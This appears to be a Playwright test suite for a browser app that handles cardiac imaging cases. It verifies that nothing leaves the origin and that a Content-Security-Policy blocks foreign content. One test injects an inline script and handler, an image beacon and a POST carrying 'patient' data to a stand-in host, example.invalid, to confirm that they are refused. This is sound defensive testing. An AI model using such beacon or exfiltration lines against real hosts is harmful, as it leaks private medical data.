/** Nothing leaves the page, nothing foreign runs in it, and it works on a host that sets no headers at all. */
import { expect, test, type Page, type Request } from '@playwright/test';
import { CasePage } from './pages/case-page.ts';
import { startBareHost } from './pages/bare-host.ts';
import { coarseCase, coarseSeries } from './pages/coarse-case.ts';

interface Requests {
  /** What left, or tried to leave and was not stopped by the page's own policy. */
  readonly foreign: Set<string>;
  readonly own: Set<string>;
}

/** Everything the page and its workers ask for; blobs and data stay in the page. */
function watchRequests(page: Page): Requests {
  const foreign = new Set<string>();
  const own = new Set<string>();
  const describe = (request: Request): string =>
    `${request.method()} ${request.url()} ${request.postData() ?? ''}`.trim();
  page.context().on('request', (request) => {
    const address = request.url();
    if (/^(blob|data):/.test(address)) return;
    const home = page.url() === 'about:blank' ? address : page.url();
    const same = new URL(address).origin === new URL(home).origin;
    (same ? own : foreign).add(describe(request));
  });
  page.context().on('requestfailed', (request) => {
    if (request.failure()?.errorText === 'csp') foreign.delete(describe(request));
  });
  page.on('websocket', (socket) => foreign.add(socket.url()));
  return { foreign, own };
}

test('no request leaves the origin during a case, and none carries data', async ({ page }) => {
  const requests = watchRequests(page);
  const casePage = new CasePage(page);
  await casePage.start();
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
  await casePage.openFolder(await coarseSeries());
  await casePage.confirm();
  await casePage.segment();
  await page.getByRole('button', { name: 'Save the case as a file' }).click();
  await expect(page.getByText('Saved as SYNTHETIC-HEART-1.theatron.')).toBeVisible();
  await page.getByRole('button', { name: 'Close the case' }).click();
  await casePage.openCaseFile(await coarseCase());
  for (const step of ['Model', 'Simulate', 'Plan', 'Report'] as const) {
    await casePage.goTo(step);
    await casePage.settled();
  }
  expect([...requests.own].some((line) => line.includes('.wasm'))).toBe(true);
  expect([...requests.foreign]).toEqual([]);
  // Only plain reads of the page's own files.
  expect([...requests.own].filter((line) => !/^GET \S+$/.test(line))).toEqual([]);
});

test('the built page carries a policy that stops foreign scripts, images and requests', async ({
  page,
}) => {
  const requests = watchRequests(page);
  await page.goto('./');
  const policy = page.locator('meta[http-equiv="Content-Security-Policy"]');
  await expect(policy).toHaveAttribute('content', /default-src 'self'/);
  await expect(policy).toHaveAttribute('content', /object-src 'none'/);
  const outcome = await page.evaluate(async () => {
    const violated: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      violated.push(event.effectiveDirective),
    );
    const script = document.createElement('script');
    script.textContent = 'document.documentElement.dataset.injected = "yes"';
    document.body.append(script);
    const handler = document.createElement('a');
    handler.setAttribute('onclick', 'document.documentElement.dataset.injected = "yes"');
    document.body.append(handler);
    handler.click();
    const image = new Image();
    image.src = 'https://example.invalid/pixel.png?patient=1';
    document.body.append(image);
    const fetched = await fetch('https://example.invalid/', { method: 'POST', body: 'patient' })
      .then(() => 'sent')
      .catch(() => 'refused');
    await new Promise((resolve) => setTimeout(resolve));
    return { violated, fetched, injected: document.documentElement.dataset.injected ?? 'no' };
  });
  expect(outcome.injected).toBe('no');
  expect(outcome.fetched).toBe('refused');
  expect(new Set(outcome.violated)).toEqual(
    new Set(['script-src-elem', 'script-src-attr', 'img-src', 'connect-src']),
  );
  expect([...requests.foreign]).toEqual([]);
});

test('a sub-folder of a host without headers runs the chain on one thread', async ({ page }) => {
  const host = await startBareHost();
  try {
    const requests = watchRequests(page);
    const casePage = new CasePage(page);
    await casePage.start(host.address);
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(false);
    await expect(casePage.status).toContainText('1 thread');
    await casePage.openFolder(await coarseSeries());
    await casePage.confirm();
    await casePage.segment();
    await casePage.goTo('Model');
    const spacing = casePage.panel.getByLabel('Simulation spacing, mm');
    await spacing.fill('1.5');
    await spacing.press('Enter');
    await casePage.build();
    await casePage.goTo('Simulate');
    const duration = casePage.panel.getByLabel('Duration, ms', { exact: true });
    await duration.fill('300');
    await duration.press('Enter');
    await casePage.simulate();
    expect(Number(await casePage.figure('Activated'))).toBeGreaterThan(90);
    expect(await casePage.figure('Engine')).toContain('1 thread');
    expect([...requests.foreign]).toEqual([]);
    expect(casePage.problems).toEqual([]);
  } finally {
    await host.close();
  }
});
